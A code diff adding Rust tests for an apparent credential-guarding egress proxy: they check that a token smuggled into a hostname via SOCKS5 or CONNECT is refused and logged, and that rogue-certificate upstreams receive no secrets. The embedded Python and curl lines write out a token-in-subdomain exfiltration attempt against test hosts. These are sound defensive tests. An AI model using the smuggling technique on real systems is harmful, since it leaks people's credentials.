@@ -743,6 +743,102 @@ curl -sS -o /dev/null -w 'tunnel => %{http_code}\n' --cacert tls/ca.pem -H "Auth
     assert!(!body.stdout.contains(TOKEN));
 }
 
+/// A placeholder in a name to look up (a CONNECT target, a SOCKS5 name) is refused and
+/// logged naming the entry; the twin, the same SOCKS5 request for an allowed name, goes
+/// through. Each run gets placeholders of its own.
+#[test]
+fn a_placeholder_in_a_name_is_refused_and_placeholders_are_per_run() {
+    let s = Setup::new();
+    let socks = r#"
+import os, socket, struct, urllib.parse
+tok = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"]).password.encode()
+def socks(host, port):
+    s = socket.create_connection(("127.0.0.1", 1080), timeout=30)
+    s.sendall(b"\x05\x01\x02"); s.recv(2)
+    s.sendall(bytes([1, 7]) + b"gitloop" + bytes([len(tok)]) + tok); s.recv(2)
+    s.sendall(bytes([5, 1, 0, 3, len(host)]) + host + struct.pack(">H", port))
+    r = s.recv(10)
+    return r[1] if len(r) > 1 else "closed"
+port = int(os.environ["OTHER"])
+print("socks-name =>", socks((os.environ["GITHUB_TOKEN"] + ".other.test").encode(), port))
+print("socks-allowed =>", socks(b"other.test", port))
+"#;
+    let run = s
+        .sh(&format!(
+            "export OTHER; python3 -c {}\n\
+             curl -sS -o /dev/null -w 'connect-name => %{{http_code}}\\n' \
+             \"https://$GITHUB_TOKEN.other.test:$OTHER/\" 2>&1 | grep -o 'connect-name => .*\\|CONNECT.*'\n\
+             echo \"placeholder => $GITHUB_TOKEN\"",
+            shell_quote(socks)
+        ))
+        .ok();
+    assert_eq!(probe(&run, "socks-allowed"), "0");
+    let refused = probe(&run, "socks-name");
+    assert!(refused != "0" && refused != "closed", "{}", run.stdout);
+    let credential: Vec<_> = s
+        .violations()
+        .into_iter()
+        .filter(|v| v["rule"] == "credential" && v["entry"] == "env:GITHUB_TOKEN")
+        .collect();
+    let suffix = format!(".other.test:{}", s.other.port);
+    for via in ["socks", "connect"] {
+        assert!(
+            credential
+                .iter()
+                .any(|v| v["via"] == via && v["target"].as_str().unwrap().ends_with(&suffix)),
+            "no credential violation via {via}: {credential:#?}\n{}",
+            run.stdout
+        );
+    }
+    assert!(s.other.seen().is_empty(), "{:#?}", s.other.seen());
+    let events = fs::read_to_string(s.env.loop_dir(&s.id).join("events.jsonl")).unwrap();
+    assert!(!events.contains(TOKEN), "{events}");
+    // Another run, another placeholder, of the same shape.
+    let first = probe(&run, "placeholder").to_string();
+    let again = s.sh("echo \"placeholder => $GITHUB_TOKEN\"").ok();
+    let second = probe(&again, "placeholder");
+    assert_ne!(first, second);
+    for p in [first.as_str(), second] {
+        assert!(
+            p.starts_with("ghp_") && p.len() == TOKEN.len() && p != TOKEN,
+            "{p}"
+        );
+    }
+}
+
+/// Upstream, the proxy speaks TLS verified against the trusted roots and the operator's
+/// `upstream_ca`: a server for a bound name whose certificate another CA signed gets no
+/// request (the client gets a 502 and the run an `upstream` event); the twin, the same
+/// request to the server the test CA signed, arrives with the value.
+#[test]
+fn a_bound_host_is_reached_only_with_a_verified_certificate() {
+    let s = Setup::new();
+    let rogue = Https::start(&test_ca(&["llm.bound.test"]), None);
+    let run = s
+        .sh(&format!(
+            "ROGUE={}; H=\"x-api-key: $LLM_KEY\"\n\
+             curl -sS -o /dev/null -w 'rogue => %{{http_code}}\\n' -H \"$H\" \"https://llm.bound.test:$ROGUE/rogue\"\n\
+             curl -sS -o /dev/null -w 'verified => %{{http_code}}\\n' -H \"$H\" \"https://llm.bound.test:$BOUND/verified\"",
+            rogue.port
+        ))
+        .ok();
+    assert_eq!(probe(&run, "rogue"), "502", "{}", run.stderr);
+    assert_eq!(probe(&run, "verified"), "200");
+    assert!(rogue.seen().is_empty(), "{:#?}", rogue.seen());
+    let seen = s.bound.seen();
+    let verified = seen.iter().find(|r| r.path == "/verified").unwrap();
+    assert_eq!(verified.headers["x-api-key"], OTHER);
+    let events = fs::read_to_string(s.env.loop_dir(&s.id).join("events.jsonl")).unwrap();
+    assert!(
+        events
+            .lines()
+            .any(|l| l.contains("\"upstream\"")
+                && l.contains(&format!("llm.bound.test:{}", rogue.port))),
+        "{events}"
+    );
+    assert!(!events.contains(OTHER), "{events}");
+}
+
 /// On a connection the proxy ends, every request is checked: keep-alive over HTTP/1.1 and
 /// streams over HTTP/2 reach the bound host, and a request on the same connection that
 /// names another host (domain fronting) is refused.
